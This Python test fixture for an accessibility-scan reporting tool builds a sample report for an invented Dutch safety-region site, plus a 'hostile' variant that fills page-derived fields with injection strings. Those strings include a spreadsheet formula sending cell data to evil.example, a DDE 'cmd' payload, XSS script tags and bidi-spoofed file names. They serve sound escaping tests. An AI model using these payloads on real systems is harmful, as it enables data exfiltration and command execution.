"""A realistic scan of an invented safety region, and one in which everything a page says is hostile."""

# ruff: noqa: E501 - sentences in two languages side by side read better on one line

from __future__ import annotations

import dataclasses
import hashlib
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone

from PIL import Image, ImageDraw, ImageFont

from eaa_checker.domain.address import AddressLine, Ending, FoundBy
from eaa_checker.domain.capture import Capture, Part, PartKind
from eaa_checker.domain.observation import Observation, Place, Witness
from eaa_checker.domain.organisation import Target, TargetKind
from eaa_checker.domain.scan import Scan, ScanOptions, ScanState
from eaa_checker.report.content import ScanReport
from rules import axe, norms
from rules.contract import Rule, Verdict, Words

SITE = "https://www.vrnoordermeer.example"
WINTER = timezone(timedelta(hours=1))
START = datetime(2026, 11, 23, 14, 5, 9, tzinfo=WINTER)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31 88 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "</script><script>document.title='geraakt'</script>",
    "--><img src=x onerror=document.title='geraakt'>",
    "]]><b>&amp; \"aanhaling\" 'enkel' <!DOCTYPE x [<!ENTITY a 'b'>]>",
    "{{ 7*7 }} {% raise %} {0.__class__}",
    "nul\x00bel\x07esc\x1b[31mrood\x1b[0m",
    "gespiegeld \u202egpj.exe\u202c en \u2066isolaat\u2069",
    "half \ud83d paar \udc00 en heel 👩🏽‍🚒🇳🇱",
    "niet-teken \ufffe\uffff einde",
    "regel\u2028scheiding\u2029en\r\nregeleinde",
    "_x0041_ en _x000D_",
    "a" * 1_000_000,
)


def picture(kind: str = "JPEG") -> bytes:
    """A crop as a browser would make it: part of a page with a banner and a few words."""
    image = Image.new("RGB", (560, 240), "#ffffff")
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, 560, 56), fill="#0b5d7a")
    font = ImageFont.load_default(18)
    draw.text((20, 16), "Veiligheidsregio Noordermeer", fill="#ffffff", font=font)
    draw.rectangle((24, 84, 224, 204), fill="#d8dde2")
    draw.polygon([(40, 190), (110, 110), (160, 160), (190, 130), (215, 190)], fill="#7d95a6")
    draw.text((250, 90), "Wat te doen bij wateroverlast", fill="#222222", font=font)
    draw.text((250, 130), "Lees meer", fill="#a9b4bd", font=font)
    stream = io.BytesIO()
    image.save(stream, kind, quality=80)
    return stream.getvalue()


PICTURES = {hashlib.sha256(data).hexdigest(): data for data in (picture("JPEG"), picture("PNG"))}
JPEG, PNG = PICTURES
REGION = (0.0, 300.0, 560.0, 240.0)

PAGES = (
    ("/", "Home | Veiligheidsregio Noordermeer"), ("/112", "112 bellen"), ("/nieuws", "Nieuws"),
    ("/nieuws/wateroverlast", "Wat te doen bij wateroverlast"), ("/contact", "Contact"), ("/kaart", "Kaart"),
    ("/zoeken?q=brand", "Zoeken"), ("/toegankelijkheid", "Toegankelijkheidsverklaring"), ("/video", "Video"),
)  # fmt: skip


def fingerprint(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def place(path: str, selector: tuple[str, ...], html: str, number: int, *, crop: str = "", indicative: bool = False,
          box: tuple[float, float, float, float] = (24, 384, 200, 120)) -> Place:  # fmt: skip
    return Place(f"{SITE}{path}", selector, html, box, indicative, number + 1, crop)


def observation(
    rule: str, title: Words, explanation: Words, why: Words, repair: Words, *, requirements: tuple[str, ...],
    places: tuple[Place, ...], verdict: Verdict = Verdict.FAILED, element: str = "", disputed: bool = False,
    hits: tuple[str, ...] = (), witnesses: tuple[Witness, ...] = (),
) -> Observation:  # fmt: skip
    clauses = norms.clauses(requirements)
    return Observation(
        fingerprint(rule + element + verdict), rule, verdict, title, explanation, why, repair, requirements, clauses,
        hits or norms.hits(clauses), witnesses or (Witness("own", rule, verdict),), places, len(places),
        len({p.address for p in places}), element, disputed,
    )  # fmt: skip


def observations() -> list[Observation]:
    """What a scan of such a site would show."""
    logo = '<img src="/beeld/logo.svg" class="logo">'
    everywhere = tuple(
        place(path, ("header > a.logo > img",), logo, n, crop=JPEG if n < 2 else "")
        for n, (path, _) in enumerate(PAGES)
    )
    return [
        observation(
            "image-has-name",
            Words("Afbeelding heeft een tekstalternatief", "Image has a text alternative"),
            Words("De afbeelding “logo.svg” heeft geen tekstalternatief.", "The image “logo.svg” has no text alternative."),
            Words("Wie de afbeelding niet ziet, weet niet wat zij zegt.", "Who does not see the image does not know what it says."),
            Words("Geef de afbeelding een alt-tekst die hetzelfde zegt als het beeld, of een lege alt als het beeld versiering is.",
                  "Give the image an alt text that says the same as the picture, or an empty alt when it is decoration."),
            requirements=("wcag:1.1.1",), places=everywhere, element="img in de kop (logo)",
            witnesses=(Witness("own", "image-has-name", Verdict.FAILED),
                       Witness("axe", "image-alt", Verdict.FAILED, "Element does not have an alt attribute")),
        ),
        observation(
            "text-has-contrast",
            Words("Tekst heeft genoeg contrast", "Text has enough contrast"),
            Words("Het contrast van de tekst is 2,1 : 1; nodig is 4,5 : 1.", "The contrast of the text is 2.1:1; 4.5:1 is needed."),
            Words("Wie minder goed ziet, kan de tekst niet lezen.", "Who sees less well cannot read the text."),
            Words("Maak de tekst donkerder of de achtergrond lichter.", "Make the text darker or the background lighter."),
            requirements=("wcag:1.4.3",), element="a “Lees meer”",
            places=tuple(place(p, ("main > article:nth-child(2) > a.meer",), '<a class="meer" href="/nieuws/wateroverlast">Lees meer</a>',
                               n, crop=PNG, box=(246, 424, 100, 30)) for n, (p, _) in enumerate(PAGES[:4])),
            witnesses=(Witness("own", "text-has-contrast", Verdict.FAILED),
                       Witness("axe", "color-contrast", Verdict.CANNOT_TELL, "Element's background color could not be determined")),
            disputed=True,
        ),
        observation(
            "field-has-name",
            Words("Invoerveld heeft een naam", "Form field has a name"),
            Words("Het veld “telefoon” heeft geen label.", "The field “telefoon” has no label."),
            Words("Wie het scherm laat voorlezen, hoort niet wat er ingevuld moet worden.", "Who has the screen read aloud does not hear what to fill in."),
            Words("Verbind een zichtbaar label met het veld.", "Connect a visible label with the field."),
            requirements=("wcag:4.1.2", "wcag:3.3.2"), element='input name="telefoon"',
            places=(place("/contact", ("form > input:nth-of-type(3)",), '<input type="tel" name="telefoon" placeholder="Telefoon">', 4),),
        ),
        observation(
            "button-has-name",
            Words("Knop heeft een naam", "Button has a name"),
            Words("De knop heeft geen naam.", "The button has no name."),
            Words("Wie met spraak of een schermlezer werkt, kan de knop niet vinden.", "Who works by voice or with a screen reader cannot find the button."),
            Words("Geef de knop tekst, of een aria-label als er alleen een pictogram is.", "Give the button text, or an aria-label when there is only an icon."),
            requirements=("wcag:4.1.2",), element="button.menu",
            places=tuple(place(p, ("iframe#kaart", "button.zoom"), '<button class="zoom"><svg aria-hidden="true"></svg></button>', n, indicative=True)
                         for n, (p, _) in enumerate(PAGES[5:7], 5)),
        ),
        observation(
            "page-has-language",
            Words("Pagina heeft een taal", "Page has a language"),
            Words("De pagina zegt niet in welke taal zij is.", "The page does not say in which language it is."),
            Words("De schermlezer leest de tekst met de verkeerde uitspraak.", "The screen reader reads the text with the wrong pronunciation."),
            Words("Zet de taal in het html-element.", "Put the language on the html element."),
            requirements=("wcag:3.1.1",), element="html",
            places=(place("/kaart", ("html",), "<html><head><title>Kaart</title>", 5),),
        ),
        observation(
            "heading-not-empty",
            Words("Kop is niet leeg", "Heading is not empty"),
            Words("Deze kop heeft geen tekst.", "This heading has no text."),
            Words("Wie van kop naar kop springt, hoort niets.", "Who jumps from heading to heading hears nothing."),
            Words("Geef de kop tekst of haal het kopelement weg.", "Give the heading text or remove the heading element."),
            requirements=(), element="h2", hits=("4.2.1",),
            places=(place("/nieuws", ("main > h2:nth-of-type(2)",), "<h2></h2>", 2),),
        ),
        observation(
            "alt-fits-image",
            Words("Tekstalternatief past bij de afbeelding", "Text alternative fits the image"),
            Words("Zegt “foto” hetzelfde als deze afbeelding?", "Does “foto” say the same as this image?"),
            Words("Een alternatief dat iets anders zegt, helpt niemand.", "An alternative that says something else helps nobody."),
            Words("Beschrijf wat de afbeelding overbrengt.", "Describe what the image conveys."),
            requirements=("wcag:1.1.1",), verdict=Verdict.CANNOT_TELL, element="img “foto”",
            places=(place("/nieuws/wateroverlast", ("article img",), '<img src="water.jpg" alt="foto">', 3, crop=JPEG),),
        ),
        observation(
            "video-has-captions",
            Words("Video heeft ondertiteling", "Video has captions"),
            Words("Heeft deze video ondertiteling die klopt?", "Does this video have captions that are right?"),
            Words("Wie niet hoort, mist wat er gezegd wordt.", "Who does not hear misses what is said."),
            Words("Voeg ondertiteling toe.", "Add captions."),
            requirements=("wcag:1.2.2",), verdict=Verdict.CANNOT_TELL, element="video",
            places=(place("/video", ("main video",), '<video src="uitleg.mp4" controls></video>', 8, indicative=True),),
        ),
    ]  # fmt: skip


def lines() -> list[AddressLine]:
    tested = [
        AddressLine(f"{SITE}{path}", FoundBy.LINK if n else FoundBy.START, min(n, 2), SITE if n else "",
                    Ending.NOT_SETTLED if path in ("/kaart", "/video") else Ending.CAPTURED, "", f"{SITE}{path}", 200,
                    "text/html", title, 1, START + timedelta(seconds=4 * n))
        for n, (path, title) in enumerate(PAGES)
    ]  # fmt: skip
    other = (
        ("/oud/rampenplan", Ending.NOT_FOUND, "404 Not Found", 404),
        ("/mijn", Ending.SIGN_IN, "401 Unauthorized", 401),
        ("/intern", Ending.ROBOTS, "Disallow: /intern", None),
        ("/jaarverslag.pdf", Ending.DOCUMENT, "", 200),
        ("/agenda?maand=2027-03", Ending.TRAP, "", None),
        ("/nieuws?pagina=2", Ending.LIMIT, "", None),
        ("/index.html", Ending.DUPLICATE, "", 200),
    )
    return tested + [
        AddressLine(f"{SITE}{path}", FoundBy.SITEMAP, 1, f"{SITE}/sitemap.xml", ending, detail, "", status,
                    attempts=1, visited=START + timedelta(seconds=60) if status else None)
        for path, ending, detail, status in other
    ]  # fmt: skip


def rule(rule_id: str, nl: str, en: str, *requirements: str) -> Rule:
    same = Words(nl, en)
    return Rule(id=rule_id, title=same, why=same, repair=same, requirements=requirements, sentences={})


def report(found: list[Observation] | None = None, **changes: object) -> ScanReport:
    """The sample scan; *changes* replace fields of the report."""
    seen = observations() if found is None else found
    options = ScanOptions(max_pages=10, ignore_robots="", viewport=(1280, 1024))
    scan = Scan(
        7, 3, "www.vrnoordermeer.example", "Veiligheidsregio Noordermeer", f"{SITE}/", ScanState.COMPLETED, options,
        START, START, START + timedelta(minutes=2, seconds=31),
        circumstances={
            "tool": "0.1.0", "axe": "4.12.1", "requests": 1243, "viewport": [1280, 1024],
            "robots": [{"origin": SITE, "state": "read", "crawl_delay": None, "text": "User-agent: *\nDisallow: /intern"}], "who": "inspecteur 12", "platform": "Debian 12",
            "browser": {"name": "Chromium", "version": "156.0.7204.49", "path": "/usr/bin/chromium-headless-shell",
                        "why": "geïnstalleerd op deze computer", "sandbox": True,
                        "user_agent": "Mozilla/5.0 … EAA-Checker/0.1.0 (+https://www.inspectie-jenv.nl/)"},
        },
        found=16, tested=9, failed=2,
    )  # fmt: skip
    target = Target(
        3, "www.vrnoordermeer.example", f"{SITE}/", TargetKind.WEB_SITE, 1, "Veiligheidsregio Noordermeer", START
    )
    crops = tuple(Part(PartKind.CROP, sha, len(data), "image/jpeg", "", REGION) for sha, data in PICTURES.items())
    captures = {
        n + 1: Capture(f"{SITE}{path}", f"{SITE}{path}", START + timedelta(seconds=4 * n), True, 200, title, "nl", "default", crops, id=n + 1)
        for n, (path, title) in enumerate(PAGES)
    }  # fmt: skip

    def stream() -> Iterator[Observation]:
        return iter(seen)

    full = ScanReport(
        scan=scan, target=target, lines=lines(), observations=stream, rule_book="2026.11.0", captures=captures,
        passed={"image-has-name": 41, "page-has-title": 9, "viewport-allows-zoom": 0, "link-has-name": 188},
        rules=dict(axe.table()) | {
            r.id: r for r in (
                rule("image-has-name", "Afbeelding heeft een tekstalternatief", "Image has a text alternative", "wcag:1.1.1"),
                rule("page-has-title", "Pagina heeft een titel", "Page has a title", "wcag:2.4.2"),
                rule("viewport-allows-zoom", "Inzoomen is mogelijk", "Zooming is possible", "wcag:1.4.4"),
                rule("link-has-name", "Link heeft een naam", "Link has a name", "wcag:2.4.4", "wcag:4.1.2"),
            )
        },
        ran=("bypass", "image-alt"), picture=PICTURES.get, made=datetime(2026, 11, 24, 8, 0, tzinfo=UTC),
    )  # fmt: skip
    return dataclasses.replace(full, **changes)  # type: ignore[arg-type]


def hostile_report() -> ScanReport:
    """Each text of HOSTILE stands in every field that comes from a page, a server or a person."""
    found, crawled = [], []
    for n, text in enumerate(HOSTILE):
        where = Place(f"{SITE}/{text}", (text, text), text, (0, 0, 10, 10), False, 0, "")
        said = Words(f"Gezien: {text}", f"Seen: {text}")
        raw = Words(text + ".", text + ".")
        found.append(
            Observation(fingerprint(text), "image-has-name", Verdict.FAILED if n % 2 else Verdict.CANNOT_TELL, raw, said,
                        raw, raw, ("wcag:1.1.1", f"vreemd:{n}"), ("9.1.1.1",), ("4.2.1", "9.9.9"),
                        (Witness("axe", "image-alt", Verdict.FAILED, text),), (where,), 1, 1, text, True)
        )  # fmt: skip
        crawled.append(
            AddressLine(f"{SITE}/{text}", FoundBy.LINK, 1, text, Ending.CAPTURED if n % 2 else Ending.SERVER_ERROR, text,
                        f"{SITE}/eind/{text}", 500, text, text, 1, START)
        )  # fmt: skip
    crawled.append(AddressLine("javascript:alert(1)", FoundBy.LINK, 1, ending=Ending.INTERNAL_ERROR))
    plain = report(found)
    scan = dataclasses.replace(
        plain.scan, target_name=HOSTILE[8], organisation_name=HOSTILE[13], address=f"{SITE}/{HOSTILE[0]}",
        error=HOSTILE[12], circumstances={"browser": {HOSTILE[8]: HOSTILE[9]}, "switches": list(HOSTILE[:18])},
        options=dataclasses.replace(plain.scan.options, ignore_robots=HOSTILE[0]),
    )  # fmt: skip
    return dataclasses.replace(plain, scan=scan, lines=crawled)
